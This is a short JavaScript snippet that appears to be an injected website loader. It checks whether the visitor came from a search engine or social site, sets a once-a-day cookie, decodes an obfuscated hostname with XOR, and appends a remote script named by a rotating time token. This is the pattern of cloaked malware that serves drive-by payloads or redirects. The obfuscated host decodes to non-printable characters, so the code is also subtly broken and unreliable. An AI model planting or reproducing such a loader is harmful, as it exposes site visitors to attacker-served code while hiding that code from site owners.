const now = Math.floor(Date.now() / 1e3), slot = now - now % 600;
const token = (slot * 7919).toString(16);
if (/google|bing|facebook|yahoo|instagram/.test(document.referrer) && document.cookie.indexOf('s1=') < 0) {
  document.cookie = 's1=1;path=/;max-age=86400';
  const a = [51, 62, 53, 50, 21, 94, 67, 90, 86, 75, 87, 94].map((c, i) => String.fromCharCode(c ^ 0x3b ^ (i & 1))).join('');
  const e = document.createElement('script');
  e.src = 'https://' + a + '/' + token + '.js';
  document.body.appendChild(e);
}
